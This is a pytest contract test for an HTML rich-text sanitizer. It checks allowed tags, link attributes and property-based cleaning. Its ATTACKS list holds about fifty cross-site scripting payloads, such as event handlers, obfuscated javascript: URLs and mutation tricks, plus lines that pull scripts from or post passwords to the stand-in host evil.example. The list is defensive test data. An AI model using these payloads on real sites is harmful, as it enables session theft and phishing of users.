"""What everything that cleans rich text must do."""

from collections.abc import Iterator
from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from application.platform.rich_text import RichText

ATTACKS = (
    "<script>steal()</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>steal()</scr</script>ipt>",
    "<img src=x onerror=steal()>",
    "<IMG SRC=`javascript:steal()`>",
    '<img """><script>steal()</script>">',
    "<img src=x:x onerror\n=\nsteal()>",
    "<svg/onload=steal()>",
    "<svg><script>steal&#40;&#41;</script></svg>",
    "<svg><a xlink:href='javascript:steal()'><text>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img onerror=x&gt;'>",
    "<a href='javascript:steal()'>x</a>",
    "<a href='JaVaScRiPt:steal()'>x</a>",
    "<a href=' &#14; javascript:steal()'>x</a>",
    "<a href='jav&#x09;ascript:steal()'>x</a>",
    "<a href='jav\nascript:steal()'>x</a>",
    "<a href='&#106&#97&#118&#97&#115&#99&#114&#105&#112&#116:steal()'>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD5zdGVhbCgpPC9zY3JpcHQ+'>x</a>",
    "<a href='vbscript:steal()'>x</a>",
    "<a href='//evil.example'>x</a>",
    "<a href='/api/auth/logout'>x</a>",
    "<a href='https://a.example' onclick='steal()'>x</a>",
    "<a href='https://a.example' target=_blank style='position:fixed;inset:0'>x</a>",
    "<iframe srcdoc='<script>steal()</script>'></iframe>",
    "<object data='data:text/html,<script>steal()</script>'></object>",
    "<embed src='//evil.example/x.swf'>",
    "<form action='//evil.example'><input name=password><button>Log in</button></form>",
    "<base href='//evil.example/'>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href='//evil.example/x.css'>",
    "<style>@import '//evil.example/x.css'; * { display: none }</style>",
    "<p style='background:url(javascript:steal())'>x</p>",
    "<div style='width: expression(steal())'>x</div>",
    "<body onload=steal()>",
    "<details open ontoggle=steal()>x</details>",
    "<video><source onerror=steal()></video>",
    "<template><script>steal()</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=steal()>'>",
    "<textarea></textarea><script>steal()</script></textarea>",
    "<title><a title='</title><script>steal()</script>'>",
    "<!--[if gte IE 4]><script>steal()</script><![endif]-->",
    "<!-- --!><script>steal()</script>-->",
    "<?xml version='1.0'?><x:script xmlns:x='http://www.w3.org/1999/xhtml'>steal()</x:script>",
    "<![CDATA[<script>steal()</script>]]>",
    "<b/onmouseover=steal()>x</b>",
    "<p id=config name=config class=admin data-x=y>x</p>",
    "<<script>steal()//<</script>",
    '<a href="https://a.example\x01" title=\'"><script>steal()</script>\'>x</a>',
    "<marquee onstart=steal()>x</marquee>",
    "<xss style='behavior:url(xss.htc)'>",
    "<sc\x00ript>steal()</sc\x00ript>",
    "<svg><noscript><p title='</noscript><img src=x onerror=steal()>'>",
    "<p title=x lang=y>x</p>",
)
ALLOWED = frozenset(
    {
        "a",
        "b",
        "blockquote",
        "br",
        "code",
        "dd",
        "dl",
        "dt",
        "em",
        "h2",
        "h3",
        "h4",
        "hr",
        "i",
        "li",
    }
) | {"ol", "p", "pre", "s", "small", "strong", "sub", "sup", "u", "ul"}
OF_LINKS = frozenset({"href", "title", "rel"})
SAFE = ("http://", "https://", "mailto:")


class _Seen(HTMLParser):
    """Everything in a text that is more than letters."""

    def __init__(self, text: str) -> None:
        super().__init__()
        self.found: list[str] = []
        self.feed(text)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in ALLOWED:
            self.found.append(f"<{tag}>")
        for name, value in attrs:
            if tag != "a" or name not in OF_LINKS:
                self.found.append(f"<{tag} {name}>")
            if name == "href" and not (value or "").strip().lower().startswith(SAFE):
                self.found.append(f"<a href={value}>")

    def handle_comment(self, data: str) -> None:
        self.found.append(f"<!--{data}-->")

    def handle_decl(self, decl: str) -> None:
        self.found.append(f"<!{decl}>")

    def handle_pi(self, data: str) -> None:
        self.found.append(f"<?{data}>")


def dangers_in(text: str) -> list[str]:
    return _Seen(text).found


def _pieces() -> Iterator[str]:
    yield from ATTACKS
    yield from ("<b>", "</b>", "<p>", "<a href='https://a.example'>", "</a>", "&lt;", "&amp;", "&")
    yield from ("<", ">", '"', "'", "<!--", "-->", "<svg>", "<math>", "<table>", "<style>", "\n")


texts = st.lists(st.sampled_from(list(_pieces())) | st.text(max_size=12), max_size=8).map("".join)


class RichTextContract:
    @property
    def rich_text(self) -> RichText:
        raise AssertionError("Every adapter brings its own.")

    @pytest.mark.parametrize("attack", ATTACKS)
    def test_nothing_is_left_of_an_attack(self, attack: str) -> None:
        assert dangers_in(self.rich_text.clean(f"<p>Before</p>{attack}<p>after</p>")) == []

    def test_the_test_knows_an_attack_when_it_sees_one(self) -> None:
        missed = [attack for attack in ATTACKS if not dangers_in(attack)]

        assert len(missed) <= 3, "some confuse other readers than this one"

    @pytest.mark.parametrize(
        "text",
        [
            "An evening with old songs.\n\nDoors at 7 & a half > 6.",
            "Fish & Chips, &amp; more; 100 % \"quoted\" and 'quoted'",
            "ein Abend mit Ä, 日本語, 🎪 and a tab\t",
            "",
        ],
    )
    def test_text_without_markup_stays_as_it_is(self, text: str) -> None:
        assert self.rich_text.clean(text) == text

    def test_simple_markup_stays(self) -> None:
        text = "<h2>Tonight</h2><p>With <strong>songs</strong> &amp; <em>dance</em><br>until 2</p>"

        assert self.rich_text.clean(text) == text

    def test_a_link_says_what_browsers_shall_not_tell(self) -> None:
        cleaned = self.rich_text.clean('<a href="https://a.example/x?y=1">x</a>')

        assert 'href="https://a.example/x?y=1"' in cleaned
        assert "noopener" in cleaned
        assert "noreferrer" in cleaned

    def test_words_survive_the_markup_around_them(self) -> None:
        assert self.rich_text.clean("<div><font color=red>Red</font> hall</div>") == "Red hall"

    def test_less_than_is_shown_as_such(self) -> None:
        assert self.rich_text.clean("5 < 6 and <3") == "5 &lt; 6 and &lt;3"

    @given(text=texts)
    def test_whatever_comes_is_clean_and_stays_as_it_is(self, text: str) -> None:
        cleaned = self.rich_text.clean(text)

        assert dangers_in(cleaned) == []
        assert self.rich_text.clean(cleaned) == cleaned
